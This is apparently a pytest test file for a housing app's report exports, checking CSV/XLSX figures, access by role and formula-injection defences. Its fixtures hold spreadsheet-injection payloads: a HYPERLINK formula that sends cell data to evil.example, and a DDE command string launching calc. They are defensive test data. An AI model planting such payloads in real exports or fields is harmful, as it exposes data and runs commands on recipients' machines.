"""Report files and the reports API: the CSV and XLSX carry the same numbers as the JSON,
as numbers; formula injection comes out inert; who may download what (browser session or
bearer token)."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from innocell.models import Booking, Lease, Space, Unit, UnitOutage
from innocell.services import reports as report_service

HK = ZoneInfo("Asia/Hong_Kong")
UTC = timezone.utc
NOW = datetime(2026, 12, 1, 2, 0, tzinfo=UTC)
PERIOD = {"from": "2026-11-01", "to": "2026-12-01"}
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1+1", "\r=2+2"]


def hk(y, mo, d, h=0, mi=0):
    return datetime(y, mo, d, h, mi, tzinfo=HK).astimezone(UTC)


@pytest.fixture
def records(session, make_user):
    """Two unit types with leases crossing the month ends, an outage, two spaces with fees and
    bookings whose titles try formula injection."""
    resident = make_user("resident", name="=cmd|' /C calc'!A0")
    units = [Unit(code=f"01-0{i}", unit_type=t, floor=1, monthly_rent=Decimal(r), created_at=NOW)
             for i, (t, r) in enumerate([("solo", "9300"), ("solo", "9300"), ("twin", "13950.50")], start=1)]
    session.add_all(units)
    session.flush()
    session.add_all([
        Lease(unit_id=units[0].id, user_id=resident.id, start_date=date(2026, 10, 15), end_date=date(2026, 11, 20),
              monthly_rent=Decimal("9300"), status="ended", created_at=NOW),
        Lease(unit_id=units[2].id, user_id=resident.id, start_date=date(2026, 11, 3), end_date=date(2027, 2, 1),
              monthly_rent=Decimal("13950.50"), status="active", created_at=NOW),
        UnitOutage(unit_id=units[1].id, start_date=date(2026, 11, 25), end_date=date(2026, 12, 5), reason="leak",
                   created_at=NOW),
    ])
    opened = datetime(2026, 1, 1, tzinfo=UTC)  # the spaces exist all through the months reported
    lab = Space(code="WL-01", name="Wet Lab 1", kind="wet_lab", capacity=2, hourly_rate=Decimal("180.50"),
                opening_hours={d: [["08:00", "20:00"]] for d in ("mon", "tue", "wed", "thu", "fri")}, created_at=opened)
    room = Space(code="MR-01", name="Meeting Room", kind="meeting_room", capacity=1, hourly_rate=Decimal("95"),
                 created_at=opened)
    session.add_all([lab, room])
    session.flush()
    start = hk(2026, 11, 2, 9)
    for i, title in enumerate(EVIL + ["Plain title, with comma", 'He said "hi"']):
        s = start + timedelta(days=i, minutes=30 * i)
        e = s + timedelta(hours=2, minutes=30)
        session.add(Booking(space_id=(lab if i % 2 else room).id, user_id=resident.id, start_at=s, end_at=e,
                            hold_end_at=e, status="cancelled" if i == 7 else "confirmed", title=title,
                            created_at=NOW))
    session.add(Booking(space_id=lab.id, user_id=resident.id, start_at=hk(2026, 11, 30, 19), end_at=hk(2026, 12, 1, 9),
                        hold_end_at=hk(2026, 12, 1, 9), status="pending", title="overnight", created_at=NOW))
    session.commit()
    return {"resident": resident}


@pytest.fixture
def finance_api(make_user, api):
    return api(make_user("finance"))


def read_csv(response) -> list[dict]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def read_xlsx(response):
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    return header, [{h: c for h, c in zip(header, row)} for row in rows[1:]]


NUMERIC = {"occupancy": ("available_unit_nights", "occupied_unit_nights", "occupancy_rate", "rent_due"),
           "utilisation": ("open_hours", "booked_hours", "pending_hours", "utilisation_rate", "fees")}


@pytest.mark.parametrize("report,group", [("occupancy", "unit_type"), ("occupancy", "unit"), ("occupancy", "floor"),
                                          ("utilisation", "space"), ("utilisation", "kind")])
def test_csv_and_xlsx_carry_the_json_numbers_as_numbers(records, finance_api, report, group):
    params = {**PERIOD, "group": group}
    body = finance_api.get(f"/api/v1/reports/{report}", query_string=params).get_json()
    assert body["rows"], body
    json_rows = {r["group"]: r for r in body["rows"]}
    json_rows["Total"] = {"group": "Total", **body["totals"]}
    assert set(body["rows"][0]) == {"group", *NUMERIC[report]}
    assert set(body["totals"]) == set(NUMERIC[report])

    response = finance_api.get(f"/reports/{report}.csv", query_string=params)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    csv_rows = read_csv(response)
    assert list(csv_rows[0]) == ["group", "group_label", *NUMERIC[report]]
    assert [r["group"] for r in csv_rows] == [r["group"] for r in body["rows"]] + ["Total"]
    assert all(r["group_label"] for r in csv_rows[:-1]) and csv_rows[-1]["group_label"] == ""
    for row in csv_rows:
        for key in NUMERIC[report]:
            want = json_rows[row["group"]][key]
            assert (row[key] == "" and want is None) or Decimal(row[key]) == Decimal(str(want)), (row, key)

    response = finance_api.get(f"/reports/{report}.xlsx", query_string=params)
    assert response.status_code == 200
    header, xlsx_rows = read_xlsx(response)
    assert header == ["group", "group_label", *NUMERIC[report]]
    assert [r["group"].value for r in xlsx_rows] == [r["group"] for r in body["rows"]] + ["Total"]
    assert xlsx_rows[-1]["group"].font.b  # the totals row stands out
    for row in xlsx_rows:
        for key in NUMERIC[report]:
            want = json_rows[row["group"].value][key]
            cell = row[key]
            if want is None:
                assert cell.value is None
            else:
                assert cell.data_type == "n" and isinstance(cell.value, (int, float)), (key, cell.value)
                assert cell.value == pytest.approx(want, abs=1e-9)


def test_every_column_adds_up_to_the_totals_row_and_rates_come_from_the_sums(records, finance_api):
    for report, groups in (("occupancy", ("unit_type", "unit", "floor")), ("utilisation", ("space", "kind"))):
        for group in groups:
            rows = read_csv(finance_api.get(f"/reports/{report}.csv", query_string={**PERIOD, "group": group}))
            *body, total = rows
            for key in NUMERIC[report]:
                if key.endswith("_rate"):
                    continue
                assert sum(Decimal(r[key]) for r in body) == Decimal(total[key]), (report, group, key)
    occ = read_csv(finance_api.get("/reports/occupancy.csv", query_string=PERIOD))[-1]
    assert float(occ["occupancy_rate"]) == round(int(occ["occupied_unit_nights"]) / int(occ["available_unit_nights"]), 4)
    util = read_csv(finance_api.get("/reports/utilisation.csv", query_string=PERIOD))[-1]
    assert float(util["utilisation_rate"]) == round(float(Decimal(util["booked_hours"]) / Decimal(util["open_hours"])), 4)


def test_kinds_and_unit_types_carry_their_labels(records, finance_api):
    kinds = {r["group"]: r["group_label"] for r in read_csv(finance_api.get(
        "/reports/utilisation.csv", query_string={**PERIOD, "group": "kind"}))}
    assert kinds == {"meeting_room": "Meeting rooms", "wet_lab": "Wet labs", "Total": ""}
    types = {r["group"]: r["group_label"] for r in read_csv(finance_api.get("/reports/occupancy.csv",
                                                                              query_string=PERIOD))}
    assert types["twin"] == "Twin (two people)"
    spaces = {r["group"]: r["group_label"] for r in read_csv(finance_api.get("/reports/utilisation.csv",
                                                                               query_string=PERIOD))}
    assert spaces["WL-01"] == "Wet Lab 1"
    booking = read_csv(finance_api.get("/reports/bookings.csv", query_string=PERIOD))[0]
    assert list(booking)[3:5] == ["kind", "kind_label"] and booking["kind_label"] in ("Wet labs", "Meeting rooms")
    lease = read_csv(finance_api.get("/reports/leases.csv", query_string=PERIOD))[0]
    assert (lease["unit_type"], lease["unit_type_label"]) == ("solo", "Solo (one person)")
    waiting = read_csv(finance_api.get("/reports/waitlist.csv"))
    assert {r["unit_type"]: r["unit_type_label"] for r in waiting}["powerhub"] == "Powerhub (team of up to four)"


def test_the_numbers_are_the_records_figures(records, finance_api):
    """Hand-checked: November 2026, 30 nights."""
    rows = {r["group"]: r for r in finance_api.get("/api/v1/reports/occupancy",
                                                    query_string={**PERIOD, "group": "unit"}).get_json()["rows"]}
    assert rows["01-01"] == {"group": "01-01", "available_unit_nights": 30, "occupied_unit_nights": 19,
                             "occupancy_rate": round(19 / 30, 4), "rent_due": 5890.0}  # 9300 × 19 / 30
    assert rows["01-02"]["available_unit_nights"] == 24  # out of service from the 25th
    assert rows["01-03"]["occupied_unit_nights"] == 28
    assert rows["01-03"]["rent_due"] == 13020.47  # 13950.50 × 28 / 30 = 13020.4666…
    util = {r["group"]: r for r in finance_api.get("/api/v1/reports/utilisation",
                                                    query_string={**PERIOD, "group": "space"}).get_json()["rows"]}
    # lab: Tue 3rd and Thu 5th 2.5 h each; Sat 7th is closed (0 h); Mon 9th is cancelled; the overnight
    # pending booking counts its 19:00-20:00 on Mon 30th, as pending and unbilled
    assert util["WL-01"]["booked_hours"] == 5.0 and util["WL-01"]["pending_hours"] == 1.0
    assert util["WL-01"]["fees"] == 902.5  # 5 × 180.50: confirmed time only
    assert util["WL-01"]["open_hours"] == 21 * 12 * 2  # 21 weekdays in November 2026, capacity two


def test_revenue_vacancy_and_waitlist_files(records, finance_api):
    body = finance_api.get("/api/v1/reports/revenue", query_string={"from": "2026-10-01", "to": "2026-12-01"}).get_json()
    assert [r["group"] for r in body["rows"]] == ["2026-10", "2026-11"]
    csv_rows = read_csv(finance_api.get("/reports/revenue.csv", query_string={"from": "2026-10-01", "to": "2026-12-01"}))
    assert [(r["month"], Decimal(r["total"])) for r in csv_rows] == [
        ("2026-10-01", Decimal(str(body["rows"][0]["total"]))), ("2026-11-01", Decimal(str(body["rows"][1]["total"]))),
        ("", Decimal(str(body["totals"]["total"])))]
    assert csv_rows[-1]["group"] == "Total"
    assert Decimal(csv_rows[-1]["lab_fees"]) == sum(Decimal(r["lab_fees"]) for r in csv_rows[:-1])
    header, rows = read_xlsx(finance_api.get("/reports/revenue.xlsx", query_string={"from": "2026-10-01",
                                                                                  "to": "2026-12-01"}))
    assert rows[1]["month"].is_date and rows[1]["month"].value == datetime(2026, 11, 1)
    vacancy = finance_api.get("/reports/vacancy.xlsx")
    assert vacancy.status_code == 200 and "vacancy_" in vacancy.headers["Content-Disposition"]
    waitlist = read_csv(finance_api.get("/reports/waitlist.csv"))
    assert {r["unit_type"] for r in waitlist} >= {"solo", "twin", "suite", "powerhub", "Total"}
    assert waitlist[-1]["unit_type"] == "Total" and waitlist[-1]["waiting"] == "0"
    vacancy_body = finance_api.get("/api/v1/reports/vacancy").get_json()
    assert vacancy_body["totals"]["units"] == len(vacancy_body["rows"]) == 1  # 01-01 (01-02 is out of service)
    assert vacancy_body["totals"]["monthly_rent"] == 9300.0
    assert finance_api.get("/api/v1/reports/waitlist").get_json()["totals"] == {
        "waiting": 0, "median_wait_days": None, "longest_wait_days": None}


def test_formula_injection_in_titles_and_names_comes_out_inert(records, finance_api):
    response = finance_api.get("/reports/bookings.csv", query_string=PERIOD)
    assert response.status_code == 200
    rows = read_csv(response)
    titles = {r["title"] for r in rows}
    for evil in EVIL:
        assert "'" + evil in titles
        assert evil not in titles
    assert "Plain title, with comma" in titles and 'He said "hi"' in titles
    assert all(r["user_name"] == "'=cmd|' /C calc'!A0" for r in rows)
    cancelled = [r for r in rows if r["status"] == "cancelled"]
    assert len(cancelled) == 1  # the raw export lists every booking with its status
    assert {r["hours"] for r in rows} == {"2.50", "14.00"}

    response = finance_api.get("/reports/bookings.xlsx", query_string=PERIOD)
    header, xlsx_rows = read_xlsx(response)
    by_title = {r["title"].value: r for r in xlsx_rows}
    for evil in EVIL:
        cell = by_title[evil.replace("\r", "_x000D_")]["title"]  # XML's escape for CR, which openpyxl keeps
        assert cell.data_type == "s"  # a string, not a formula
        assert cell.quotePrefix  # and Excel keeps it text when edited
    assert all(c.data_type != "f" for r in xlsx_rows for c in r.values())
    first = xlsx_rows[0]
    assert first["start"].is_date and first["start"].value == datetime(2026, 11, 2, 9, 0)  # local time
    assert first["hours"].data_type == "n" and first["hours"].value == 2.5
    assert first["id"].data_type == "n"


def test_leases_csv_lists_nights_and_rent_in_the_period(records, finance_api):
    rows = read_csv(finance_api.get("/reports/leases.csv", query_string=PERIOD))
    assert [(r["unit"], r["nights_in_period"], r["rent_due_in_period"]) for r in rows] == [
        ("01-01", "19", "5890.00"), ("01-03", "28", "13020.47")]
    header, xlsx_rows = read_xlsx(finance_api.get("/reports/leases.xlsx", query_string=PERIOD))
    assert xlsx_rows[0]["start"].is_date and xlsx_rows[0]["rent_due_in_period"].value == 5890.0


def test_file_names_carry_the_period(records, finance_api):
    cases = {"/reports/occupancy.xlsx": "occupancy_2026-11-01_2026-12-01.xlsx",
             "/reports/occupancy.csv": "occupancy_2026-11-01_2026-12-01.csv",
             "/reports/utilisation.csv": "utilisation_2026-11-01_2026-12-01.csv",
             "/reports/bookings.csv": "bookings_2026-11-01_2026-12-01.csv"}
    for url, name in cases.items():
        response = finance_api.get(url, query_string=PERIOD)
        assert response.status_code == 200
        assert f"filename={name}" in response.headers["Content-Disposition"].replace('"', "")
        assert response.headers["Cache-Control"] == "no-store"
    response = finance_api.get("/reports/occupancy.csv", query_string={**PERIOD, "group": "unit"})
    assert "occupancy_unit_2026-11-01_2026-12-01.csv" in response.headers["Content-Disposition"]


def test_a_frozen_month_exports_frozen_figures_in_the_same_columns_and_the_changes_apart(
        records, finance_api, session, make_user):
    finance = make_user("finance")
    plain_header = list(read_csv(finance_api.get("/reports/occupancy.csv", query_string=PERIOD))[0])
    report_service.freeze(session, report="occupancy", month=date(2026, 11, 1), group="unit_type", actor=finance,
                          now=NOW, tz=HK)
    lease = session.query(Lease).filter_by(status="active").one()
    lease.monthly_rent = Decimal("15000")  # a correction after the month was frozen
    session.commit()
    body = finance_api.get("/api/v1/reports/occupancy", query_string=PERIOD).get_json()
    assert body["frozen"] is True and body["frozen_by"] == finance.name
    twin = {r["group"]: r for r in body["rows"]}["twin"]
    assert twin["rent_due"] == 13020.47
    assert {r["group"]: r for r in body["current_rows"]}["twin"]["rent_due"] == 14000.0
    assert {r["group"]: r for r in body["changes"]}["twin"]["rent_due"] == 979.53
    assert body["change_totals"]["rent_due"] == 979.53
    assert body["current_totals"]["rent_due"] == pytest.approx(body["totals"]["rent_due"] + 979.53)
    response = finance_api.get("/reports/occupancy.csv", query_string=PERIOD)
    assert "occupancy_2026-11-01_2026-12-01_frozen.csv" in response.headers["Content-Disposition"]
    frozen_rows = read_csv(response)
    assert list(frozen_rows[0]) == plain_header  # freezing changes no column
    assert {r["group"]: r for r in frozen_rows}["twin"]["rent_due"] == "13020.47"

    response = finance_api.get("/reports/occupancy-changes.csv", query_string=PERIOD)
    assert response.status_code == 200
    assert "occupancy_2026-11-01_2026-12-01_changes.csv" in response.headers["Content-Disposition"]
    rows = {r["group"]: r for r in read_csv(response)}
    assert (rows["twin"]["frozen_rent_due"], rows["twin"]["today_rent_due"], rows["twin"]["change_rent_due"]) == (
        "13020.47", "14000.00", "979.53")
    assert rows["twin"]["frozen_at"] == "2026-12-01 10:00:00" and rows["twin"]["group_label"] == "Twin (two people)"
    assert rows["Total"]["change_rent_due"] == "979.53"
    header, xlsx_rows = read_xlsx(finance_api.get("/reports/occupancy-changes.xlsx", query_string=PERIOD))
    twin_cells = {r["group"].value: r for r in xlsx_rows}["twin"]
    assert twin_cells["frozen_rent_due"].value == 13020.47 and twin_cells["change_rent_due"].value == 979.53
    # a month never frozen has no changes to export
    refused = finance_api.get("/reports/utilisation-changes.csv", query_string=PERIOD)
    assert refused.status_code == 404 and refused.get_json()["error"] == "not_found"


# --------------------------------------------------------------------------- who may


FILE_URLS = ["/reports/occupancy.csv", "/reports/occupancy.xlsx", "/reports/utilisation.csv",
             "/reports/utilisation.xlsx", "/reports/bookings.csv"]


@pytest.mark.parametrize("url", FILE_URLS)
def test_who_may_download(records, client, make_user, api, login, url):
    # no credentials: 401 JSON for a client, the sign-in page for a browser
    response = client.get(url, query_string=PERIOD)
    assert response.status_code == 401 and response.get_json()["error"] == "unauthorized"
    response = client.get(url, query_string=PERIOD, headers={"Accept": "text/html,application/xhtml+xml"})
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    # a bad token
    response = client.get(url, query_string=PERIOD, headers={"Authorization": "Bearer not-a-token"})
    assert response.status_code == 401
    # tokens by role
    for role, status in (("resident", 403), ("manager", 403), ("finance", 200), ("admin", 200)):
        response = api(make_user(role)).get(url, query_string=PERIOD)
        assert response.status_code == status, role
        if status == 403:
            assert response.get_json()["error"] == "forbidden"
    # browser sessions by role
    for role, status in (("manager", 403), ("resident", 403), ("admin", 200), ("finance", 200)):
        client.post("/logout")
        login(make_user(role))
        response = client.get(url, query_string=PERIOD, headers={"Accept": "text/html"})
        assert response.status_code == status, role
        response.close()


@pytest.mark.parametrize("path", ["/api/v1/reports/occupancy", "/api/v1/reports/utilisation",
                                  "/api/v1/reports/revenue", "/api/v1/reports/vacancy", "/api/v1/reports/waitlist"])
def test_reports_api_is_for_finance_and_admin(client, make_user, api, path):
    assert client.get(path).status_code == 401
    for role, status in (("resident", 403), ("manager", 403), ("finance", 200), ("admin", 200)):
        assert api(make_user(role)).get(path).status_code == status, role


@pytest.mark.parametrize("params,fragment", [
    ({"from": "2026-11-01"}, "both"),
    ({"from": "2026-11-31", "to": "2026-12-01"}, "not a date"),
    ({"from": "2026-12-01", "to": "2026-11-01"}, "must end after"),
    ({"from": "2000-01-01", "to": "2026-01-01"}, "too long"),
    ({"from": "2026-11-01", "to": "2026-12-01", "group": "space"}, "grouping"),
    ({"period": "next_year"}, "not a period"),
])
def test_bad_parameters_answer_400_with_a_reason(records, finance_api, client, make_user, login, params, fragment):
    for url in ("/api/v1/reports/occupancy", "/reports/occupancy.csv", "/reports/occupancy.xlsx"):
        response = finance_api.get(url, query_string=params)
        assert response.status_code == 400, url
        assert response.get_json()["error"] == "bad_request"
        assert fragment in response.get_json()["message"]
    login(make_user("finance"))
    response = client.get("/reports/occupancy.csv", query_string=params, headers={"Accept": "text/html"})
    assert response.status_code == 400
    assert response.mimetype == "text/html" and fragment in response.get_data(as_text=True)


def test_default_period_is_this_month(records, finance_api):
    body = finance_api.get("/api/v1/reports/occupancy").get_json()
    assert body["from"].endswith("-01") and body["group"] == "unit_type"
    last = finance_api.get("/api/v1/reports/occupancy", query_string={"period": "last_month"}).get_json()
    assert last["to"] == body["from"]
